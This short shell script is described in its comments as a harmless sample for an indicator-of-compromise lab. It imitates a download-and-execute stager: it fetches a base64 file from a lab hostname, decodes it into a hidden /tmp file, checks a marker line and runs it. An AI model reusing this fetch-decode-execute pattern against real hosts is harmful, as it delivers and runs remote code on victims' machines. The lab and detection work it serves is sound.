#!/bin/sh
# HARMLESS LAB SAMPLE written for ioclab's download-execute-base64 scenario.
# It imitates a download-and-execute stager but is not malware: it fetches
# a base64 text from dl.b64lab.lab, decodes it to /tmp and runs it. In the
# lab that name resolves to 127.0.44.80, a loopback service of the lab
# network that serves the scenario's own stage2.b64 (a harmless script, see
# stage2.sh next to this file), so nothing leaves the machine and nothing
# else is ever run: if the download is not that file, nothing runs.
b64=/tmp/.ioclab-b64-stage2.b64
stage2=/tmp/.ioclab-b64-stage2.sh
rm -f "$b64" "$stage2"
curl -s -m 5 -o "$b64" http://dl.b64lab.lab/update.b64 || exit 0
base64 -d "$b64" > "$stage2" 2>/dev/null || exit 0
head -n 2 "$stage2" | grep -q "HARMLESS second stage of ioclab" || exit 0
chmod 755 "$stage2"
"$stage2"
